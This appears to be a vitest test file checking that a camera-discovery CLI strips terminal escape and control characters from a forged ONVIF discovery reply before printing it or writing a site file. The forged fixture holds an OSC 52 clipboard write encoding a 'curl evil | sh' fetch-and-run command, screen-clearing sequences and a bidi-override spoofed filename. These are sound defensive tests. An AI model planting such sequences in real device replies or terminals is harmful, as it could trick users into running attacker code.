import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { formatDevices, terminalSafe, writeSiteFile } from '../../src/video/discover-cli.js';
import { parseProbeMatches } from '../../src/video/onvif/discovery.js';

/** A forged discovery reply: escape sequences in the endpoint (erase line, write the clipboard), a bidi override and a C1 CSI in the hardware. */
const forged = (relates: string) =>
  `<?xml version="1.0"?>` +
  `<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:a="http://schemas.xmlsoap.org/ws/2004/08/addressing" ` +
  `xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery"><s:Header><a:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</a:Action>` +
  `<a:RelatesTo>${relates}</a:RelatesTo></s:Header><s:Body><d:ProbeMatches><d:ProbeMatch><a:EndpointReference>` +
  `<a:Address>urn:uuid:abc\u001b[2K\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007</a:Address></a:EndpointReference><d:Types>dn:NetworkVideoTransmitter</d:Types>` +
  `<d:Scopes>onvif://www.onvif.org/name/%1B%5B2J%1B%5B31mPWNED%1B%5D0%3Bowned%07 onvif://www.onvif.org/hardware/IPC%E2%80%AEgpj.exe%C2%9B2J</d:Scopes>` +
  `<d:XAddrs>http://192.0.2.10/onvif/device_service</d:XAddrs></d:ProbeMatch></d:ProbeMatches></s:Body></s:Envelope>`;

const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('safegrid discover output (issue 17, item 11)', () => {
  it('strips terminal escape and control characters from a forged discovery reply before printing', () => {
    const r = parseProbeMatches(forged('urn:uuid:1'), 'urn:uuid:1');
    // The parser keeps what the device said (the endpoint with a raw ESC: an OSC 52 clipboard write)…
    expect(r.devices[0]!.endpoint).toContain('\u001b]52;');
    const out = formatDevices(r.devices, [{ from: '192.0.2.66\u001b[1A', reason: 'bad\u0007' }]);
    expect(out).not.toMatch(CONTROL); // …the terminal never sees it
    expect(out).toContain('urn:uuid:abc?[2K?]52;c;');
    expect(out).toContain('IPC?gpj.exe?2J');
  });

  it('the site file written from it carries no control characters either', () => {
    const dir = mkdtempSync(join(tmpdir(), 'sg-discover-'));
    try {
      const file = join(dir, 'shop-x.yaml');
      writeSiteFile(file, parseProbeMatches(forged('urn:uuid:1'), 'urn:uuid:1').devices, [26.5, 104.8]);
      const text = readFileSync(file, 'utf8');
      expect(text).not.toMatch(CONTROL);
      expect(text).toContain('PWNED');
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('caps length', () => {
    expect(terminalSafe('x'.repeat(500)).length).toBe(201);
  });
});
